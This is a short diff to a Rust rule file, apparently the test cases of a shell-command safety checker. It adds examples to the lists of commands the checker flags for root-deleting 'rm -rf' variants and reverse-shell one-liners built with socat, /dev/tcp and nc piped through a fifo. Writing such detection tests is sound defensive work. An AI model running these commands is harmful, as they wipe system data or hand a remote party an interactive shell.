@@ -13,6 +13,8 @@ pub(in crate::check) static BASH_REMOVE_ROOT: Rule = Rule {
     catches: &[
         "rm -rf /\n",
         "rm -fr /*\n",
+        "rm 2> /dev/null -rf /\n",
+        "> f rm -rf /\n",
         "rm -r -f /usr\n",
         "rm --recursive --force /etc\n",
         "rm -Rf ~\n",
@@ -171,6 +173,7 @@ pub(in crate::check) static BASH_REMOTE_SHELL: Rule = Rule {
         "socat exec:sh tcp:h:1\n",
         "bash -c \"exec 3<>/dev/tcp/h/80\"\n",
         "sh -i 5<> /dev/tcp/h/1\n",
+        "cat fifo | sh -i 2>&1 | nc h 1 > fifo\n",
     ],
     passes: &[
         "echo /dev/tcp/h/80\n",
